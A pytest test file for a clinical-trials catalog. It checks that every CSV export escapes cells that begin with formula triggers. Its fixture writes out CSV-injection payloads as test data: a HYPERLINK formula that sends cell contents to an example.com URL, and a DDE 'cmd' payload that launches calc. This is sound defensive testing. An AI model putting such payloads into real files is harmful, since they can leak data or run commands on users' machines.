"""No CSV the catalog writes holds a cell a spreadsheet would run as a formula: cells that
begin with =, +, -, @, TAB or CR get a leading apostrophe (OWASP, "CSV Injection"), in the
list's download, the API's format=csv and /api/msc's alike."""

import csv
import io

import pytest

from catalog.registry.importer import Importer
from tests.factories import study

pytestmark = pytest.mark.django_db

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://example.com/?x="&A1,"click")'


def hostile_study(index, trigger):
    s = study(f"NCT0980000{index}", title=f"{trigger}{PAYLOAD}")
    protocol = s["protocolSection"]
    protocol["identificationModule"]["acronym"] = f"{trigger}1+1"
    protocol["descriptionModule"]["briefSummary"] = f"{trigger}cmd|' /C calc'!A0"
    protocol["conditionsModule"]["conditions"] = [f"{trigger}SUM(1+1)"]
    for outcome in protocol["outcomesModule"]["primaryOutcomes"]:
        outcome["measure"] = f"{trigger}2+5"
    protocol["sponsorCollaboratorsModule"]["leadSponsor"]["name"] = f"{trigger}Sponsor"
    return s


@pytest.fixture
def hostile_trials(bundled_catalog):
    importer = Importer()
    for index, trigger in enumerate(TRIGGERS):
        assert importer.import_study(hostile_study(index, trigger)) == "created"
    return [f"NCT0980000{i}" for i in range(len(TRIGGERS))]


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_formula(text, ids):
    all_cells = cells(text)
    for trigger in TRIGGERS:
        assert f"'{trigger}{PAYLOAD}" in all_cells, repr(trigger)
        assert f"'{trigger}Sponsor" in all_cells
        assert f"'{trigger}1+1" in all_cells
    assert not [c for c in all_cells if c.startswith(tuple(TRIGGERS))]
    assert all(nct_id in all_cells for nct_id in ids)


def test_the_lists_csv_download_neutralises_formulas(client, hostile_trials):
    response = client.get("/trials/export.csv?ids=" + "&ids=".join(hostile_trials))
    assert response.status_code == 200
    assert_no_formula(b"".join(response.streaming_content).decode(), hostile_trials)


def test_the_apis_csv_neutralises_formulas(client, hostile_trials):
    response = client.get(
        "/api/v2/studies", {"format": "csv", "filter.ids": ",".join(hostile_trials)}
    )
    assert response.status_code == 200
    assert_no_formula(response.content.decode(), hostile_trials)


def test_the_apis_csv_with_chosen_fields_neutralises_formulas(client, hostile_trials):
    response = client.get(
        "/api/v2/studies",
        {
            "format": "csv",
            "fields": "NCT Number,Study Title,Acronym,Sponsor,Conditions,Brief Summary",
            "filter.ids": ",".join(hostile_trials),
        },
    )
    assert_no_formula(response.content.decode(), hostile_trials)


def test_the_msc_apis_csv_neutralises_formulas(client, hostile_trials):
    response = client.get("/api/msc", {"format": "csv", "ids": hostile_trials, "pageSize": 10})
    assert response.status_code == 200, response.content[:300]
    all_cells = cells(response.content.decode())
    for trigger in TRIGGERS:
        assert f"'{trigger}{PAYLOAD}" in all_cells, repr(trigger)
    assert not [c for c in all_cells if c.startswith(tuple(TRIGGERS))]
    assert all(nct_id in all_cells for nct_id in hostile_trials)
